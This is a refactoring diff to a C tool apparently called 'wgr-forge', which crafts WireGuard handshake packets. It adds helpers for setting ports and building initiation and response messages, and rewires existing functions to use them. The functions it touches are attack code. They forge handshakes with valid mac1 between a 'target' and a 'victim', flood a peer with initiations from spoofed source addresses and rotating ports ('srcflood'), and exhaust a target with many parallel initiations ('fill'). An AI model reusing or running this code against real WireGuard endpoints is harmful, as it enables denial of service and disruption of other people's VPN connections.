@@ -343,6 +343,15 @@ static int stage_wait(int fd, uint8_t type, uint8_t *buf, size_t len)
 	return -1;
 }
 
+/* Set the port (network order) of @ss, an IPv4 or IPv6 address. */
+static void set_port(struct sockaddr_storage *ss, in_port_t port)
+{
+	if (ss->ss_family == AF_INET)
+		((struct sockaddr_in *)ss)->sin_port = port;
+	else
+		((struct sockaddr_in6 *)ss)->sin6_port = port;
+}
+
 /* Bind @fd to @port (any address) of @to's family. */
 static int bind_port(int fd, const struct sockaddr_storage *to, socklen_t len, long port)
 {
@@ -350,11 +359,25 @@ static int bind_port(int fd, const struct sockaddr_storage *to, socklen_t len, l
 
 	memset(&local, 0, sizeof(local));
 	local.ss_family = to->ss_family;
-	if (to->ss_family == AF_INET)
-		((struct sockaddr_in *)&local)->sin_port = htons((uint16_t)port);
-	else
-		((struct sockaddr_in6 *)&local)->sin6_port = htons((uint16_t)port);
+	set_port(&local, htons((uint16_t)port));
 	return bind(fd, (struct sockaddr *)&local, len);
+}
+
+/* An initiation for @pub with sender index @sender, mac1 valid for @pub. */
+static void initiation_from(uint8_t *msg, const uint8_t *pub, uint32_t sender)
+{
+	make("initiation", msg, pub);
+	put_le32(msg + 4, sender);
+	set_mac1(msg, 116, pub);
+}
+
+/* A response from index @index to @receiver, mac1 valid for @pub. */
+static void response_from(uint8_t *msg, const uint8_t *pub, uint32_t index, uint32_t receiver)
+{
+	make("response", msg, pub);
+	put_le32(msg + 4, index);
+	put_le32(msg + 8, receiver);
+	set_mac1(msg, 60, pub);
 }
 
 static int stage(const struct sockaddr_storage *to, socklen_t len, char **keys)
@@ -377,19 +400,14 @@ static int stage(const struct sockaddr_storage *to, socklen_t len, char **keys)
 	if (send(b, msg, 148, 0) < 0)
 		return perror("send"), 1;
 	usleep(200000);
-	make("initiation", msg, target);
-	put_le32(msg + 4, s_index);
-	set_mac1(msg, 116, target);
+	initiation_from(msg, target, s_index);
 	if (send(a, msg, 148, 0) < 0)
 		return perror("send"), 1;
 	if (stage_wait(b, 1, msg, sizeof(msg)) != 148) {
 		fprintf(stderr, "wgr-forge: stage: B got no discovery copy\n");
 		return 1;
 	}
-	make("response", msg, victim);
-	put_le32(msg + 4, r_index);
-	put_le32(msg + 8, s_index);
-	set_mac1(msg, 60, victim);
+	response_from(msg, victim, r_index, s_index);
 	if (send(b, msg, 92, 0) < 0)
 		return perror("send"), 1;
 	if (stage_wait(a, 2, msg, sizeof(msg)) != 92) {
@@ -414,9 +432,7 @@ static uint32_t make_initiation(uint8_t *msg, const uint8_t *pub)
 	uint32_t idx;
 
 	fill_random(&idx, sizeof(idx));
-	make("initiation", msg, pub);
-	put_le32(msg + 4, idx);
-	set_mac1(msg, 116, pub);
+	initiation_from(msg, pub, idx);
 	return idx;
 }
 
@@ -426,10 +442,7 @@ static uint32_t make_response(uint8_t *msg, uint32_t sender, const uint8_t *pub)
 	uint32_t idx;
 
 	fill_random(&idx, sizeof(idx));
-	make("response", msg, pub);
-	put_le32(msg + 4, idx);
-	put_le32(msg + 8, sender);
-	set_mac1(msg, 60, pub);
+	response_from(msg, pub, idx, sender);
 	return idx;
 }
 
@@ -473,9 +486,7 @@ static void hsock_initiate(struct hsock *hs, const uint8_t *pub, uint32_t sender
 {
 	uint8_t msg[148];
 
-	make("initiation", msg, pub);
-	put_le32(msg + 4, sender);
-	set_mac1(msg, 116, pub);
+	initiation_from(msg, pub, sender);
 	memset(msg + 132, 0, 16);
 	if (hs->cookie_time && now_s() - hs->cookie_time < 110) {
 		set_mac2(msg, hs->cookie);
@@ -596,12 +607,12 @@ static int hold(const struct sockaddr_storage *to, socklen_t len, long seconds, 
 				else if (from_target && initiation_for(msg, k[2]))
 					from = from_target;
 				for (int j = 0; j < 3; j++) {
-					answers[j] = make_response(msg, sender, k[j]);
 					if (self_index) {
 						/* Its own sender index is the initiation's. */
 						answers[j] = sender;
-						put_le32(msg + 4, sender);
-						set_mac1(msg, 60, k[j]);
+						response_from(msg, k[j], sender, sender);
+					} else {
+						answers[j] = make_response(msg, sender, k[j]);
 					}
 					if (send(fd, msg, 92, 0) >= 0)
 						answered++;
@@ -843,13 +854,8 @@ static int srcflood(int argc, char **argv)
 	}
 	clock_gettime(CLOCK_MONOTONIC, &next);
 	for (long k = 0; k < seconds * pps; k++) {
-		in_port_t port = htons((uint16_t)(40000 + (k / naddr) % nports));
-
 		*last = (uint8_t)(base + k % naddr);
-		if (s.src.ss_family == AF_INET)
-			((struct sockaddr_in *)&s.src)->sin_port = port;
-		else
-			((struct sockaddr_in6 *)&s.src)->sin6_port = port;
+		set_port(&s.src, htons((uint16_t)(40000 + (k / naddr) % nports)));
 		make_initiation(msg, pub);
 		if (!spoofer_send(&s, msg, sizeof(msg)))
 			sent++;
@@ -1110,10 +1116,8 @@ static int fill(int argc, char **argv, bool chain)
 		struct pollfd pfd[17];
 		uint32_t sender;
 
-		make("initiation", msg, target);
 		fill_random(&sender, sizeof(sender));
-		put_le32(msg + 4, chain ? chain_index : sender);
-		set_mac1(msg, 116, target);
+		initiation_from(msg, target, chain ? chain_index : sender);
 		if (sendto(fds[k], msg, 148, 0, (struct sockaddr *)&to, len) >= 0)
 			inits++;
 		k = (k + 1) % (int)nports;
